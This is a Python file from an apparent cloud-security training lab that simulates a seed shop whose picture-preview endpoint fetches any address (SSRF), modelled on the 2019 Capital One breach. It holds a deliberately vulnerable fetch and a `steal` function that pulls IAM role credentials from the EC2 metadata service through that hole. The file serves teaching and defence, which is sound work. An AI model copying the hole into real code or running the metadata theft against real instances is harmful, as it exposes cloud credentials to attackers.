"""The shop's web application, with a hole: it fetches whatever address a visitor names (SSRF).

The shape of what happened at Capital One in 2019: a request that a server forged for a stranger reached the instance's
metadata, and the role that it handed out could read far more than the application needed. The hole is the
application's; what it is worth to a thief is decided by three settings of AWS: whether version 1 of the metadata
service answers, how far its tokens travel, and what the role may do.
https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html
Stratus Red Team lists the theft as aws.credential-access.ec2-steal-instance-credentials.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs, urlencode, urlsplit

import requests

from labs_helpers.cloud import NotModelled
from labs_helpers.course.days.day1.actors import FAR_AWAY, Kept

if TYPE_CHECKING:
    import boto3

    from labs_helpers.cloud import Cloud

METADATA = "http://169.254.169.254"
ROLES = "/latest/meta-data/iam/security-credentials/"
INSTANCE = "larkspur-web"
_PAGES = {
    "/": "Larkspur Seeds\nsweet peas 2.40 · foxglove 1.90\nSee a picture: /preview?url=…\n",
    "/health": "ok\n",
}


class Shop:
    """The running shop: `visit` sends it a GET as a browser would, and gives what it answers. No server, no socket.

    `/preview?url=…` shows a picture from anywhere on the web, so that sellers need not upload theirs. It takes any
    address: that is the hole. `containers`: whether the application runs in a container, one network hop further away
    from the metadata service than the machine itself.
    """

    def __init__(self, cloud: Cloud, instance: str | None = None, *, containers: bool = False) -> None:
        self._cloud = cloud
        self._instance = instance or cloud.part(Kept).ids[INSTANCE]
        self._hops = 2 if containers else 1

    def visit(self, path: str) -> str:
        """What the shop answers to a visitor who asks for a path, e.g. `/preview?url=http://…`.

        Where the address gives nothing, the page says what the fetch came to.
        """
        asked = urlsplit(path)
        if asked.path == "/preview":
            return self._preview(parse_qs(asked.query).get("url", [""])[0])
        return _PAGES.get(asked.path, "404 Not Found\n")

    def _preview(self, url: str) -> str:
        """Fetch an address, as the machine that the shop runs on. A GET without headers: nothing else can be forged."""
        with self._cloud.on_instance(self._instance, hops=self._hops):
            try:
                answer = requests.get(url, timeout=2)
            except NotModelled:
                return "No picture there: no such host in this lab\n"
            except (requests.RequestException, OSError, ValueError) as error:
                return f"No picture there: {type(error).__name__}\n"
        if answer.status_code != 200:
            return f"No picture there: {answer.status_code} {answer.reason}\n"
        return answer.text

    def own_session(self) -> boto3.Session:
        """The session that the application itself works with, fetched as SDKs do: with a token.

        LookupError where the machine gives it no credentials, requests.RequestException where no answer comes.
        """
        return self._cloud.instance(self._instance).session(hops=self._hops)


def through(shop: Shop, path: str) -> str:
    """What the metadata service says at a path, asked by way of the shop's hole."""
    return shop.visit("/preview?" + urlencode({"url": METADATA + path}))


def steal(shop: Shop) -> dict[str, Any] | None:
    """The role's credentials, by three visits of the shop's preview; None if it does not give them away."""
    role = through(shop, ROLES).strip()
    if not role or " " in role:
        return None
    try:
        found = json.loads(through(shop, ROLES + role))
    except ValueError:
        return None
    if found.get("Code") != "Success":
        return None
    return {
        "AccessKeyId": found["AccessKeyId"],
        "SecretAccessKey": found["SecretAccessKey"],
        "SessionToken": found["Token"],
    }


def from_outside(cloud: Cloud) -> Any:
    """Within the block, calls come from the thief's address: `with from_outside(day.cloud):`."""
    return cloud.calling_from(FAR_AWAY)
